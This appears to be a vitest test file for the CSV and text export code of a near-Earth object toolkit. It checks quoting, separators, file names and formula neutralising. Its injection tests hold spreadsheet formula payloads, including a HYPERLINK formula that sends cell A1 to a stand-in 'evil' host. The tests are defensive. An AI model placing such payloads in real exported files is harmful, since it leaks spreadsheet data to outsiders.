import { expect, test } from 'vitest';
import { fileName } from '#parts/downloads/file-name.ts';
import { usualSeparator } from '#parts/downloads/csv-separator.ts';
import { writeCsv, writeText } from '#parts/downloads/text-file.ts';

const TABLE = {
  columns: [
    { name: 'Object', unit: '' },
    { name: 'JD_UTC', unit: 'd' },
    { name: 'AST_DEC', unit: 'deg' },
  ],
  rows: [
    ['(99942) Apophis', '2461372.50000', '−12.345678'],
    ['2024 "x", comet', '2461373.50000', '0.000001'],
  ],
};

test('the text file holds the visible cells, separated by commas, below their headings', () => {
  expect(writeText(TABLE)).toBe(
    'Object,JD_UTC [d],AST_DEC [deg]\r\n' +
      '(99942) Apophis,2461372.50000,-12.345678\r\n' +
      '"2024 ""x"", comet",2461373.50000,0.000001\r\n',
  );
});

test('the CSV file says first where its numbers come from, one remark per line', () => {
  const csv = writeCsv(TABLE, [
    ['Observer', 'G96'],
    ['Orbit', 'MPC\nepoch 2026'],
  ]);
  expect(csv.split('\r\n').slice(0, 3)).toEqual([
    '# Observer: G96',
    '# Orbit: MPC epoch 2026',
    'Object,JD_UTC [d],AST_DEC [deg]',
  ]);
});

test('a value that does not exist is a dash in the text file and an empty field in the CSV file', () => {
  const table = { ...TABLE, rows: [['(99942) Apophis', '–', '1.0']] };
  expect(writeText(table)).toContain('Apophis,–,1.0');
  expect(writeCsv(table, [])).toContain('Apophis,,1.0');
});

test('where numbers have a decimal comma semicolons separate them', () => {
  const table = {
    ...TABLE,
    rows: [
      ['2024 a; b', '2461372.50000', '1.5e-7'],
      ['12 34 56.7', '–', '-0.25'],
    ],
  };
  expect(writeCsv(table, [], 'semicolon')).toBe(
    'Object;JD_UTC [d];AST_DEC [deg]\r\n"2024 a; b";2461372,50000;1,5e-7\r\n12 34 56.7;;-0,25\r\n',
  );
});

test.each([
  ['en-GB', 'comma'],
  ['de-AT', 'semicolon'],
  ['de-CH', 'comma'],
  ['ja', 'comma'],
  ['pt-BR', 'semicolon'],
] as const)('the separator that is usual in %s is the %s', (language, separator) => {
  expect(usualSeparator(language)).toBe(separator);
});

test('the CSV file is UTF-8 without a byte-order mark: a program finds the headings in the first line that is no remark', () => {
  const csv = writeCsv(TABLE, [['Observer', 'G96']]);
  expect(csv).not.toContain('\u{FEFF}');
  const [head, first] = csv.split('\r\n').filter((line) => !line.startsWith('#'));
  expect(head.split(',')).toEqual(['Object', 'JD_UTC [d]', 'AST_DEC [deg]']);
  expect(first.split(',')).toHaveLength(3);
});

test.each([
  ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
  ['@mine', "'@mine"],
  ['-1+2', "'-1+2"],
  ['+05 30 12.25', '+05 30 12.25'],
  ['−12.345678', '-12.345678'],
  ['-1.5e-7', '-1.5e-7'],
])('a spreadsheet calculates nothing of %s', (cell, written) => {
  const [, line] = writeCsv({ columns: [{ name: 'Object', unit: '' }], rows: [[cell]] }, []).split('\r\n');
  expect(line).toBe(written);
});

test('a remark is a remark to programs, and no part of it a formula to a spreadsheet', () => {
  const name = 'a,=HYPERLINK("http://evil/?"&A1;"x")';
  const [line] = writeCsv(TABLE, [[`Orbit of ${name}`, '32.44°, −110.79°; −5 km; +1+1']]).split('\r\n');
  expect(line).toBe(`# Orbit of a,'=HYPERLINK('http://evil/?'&A1;'x'): 32.44°, -110.79°; '-5 km; '+1+1`);
});

test('a file is named after the toolkit, what it holds and the time of the download, as pictures are, without a blank', () => {
  const now = Temporal.Instant.from('2026-11-21T02:10:05.678Z');
  expect(fileName('ephemerides', 'Near-Earth object toolkit', now, 'txt')).toBe(
    'Near-Earth-object-toolkit_ephemerides_2026-11-21T02-10-05.678Z.txt',
  );
  expect(fileName('close approaches', 'Near-Earth object toolkit', now, 'ics')).toBe(
    'Near-Earth-object-toolkit_close-approaches_2026-11-21T02-10-05.678Z.ics',
  );
});
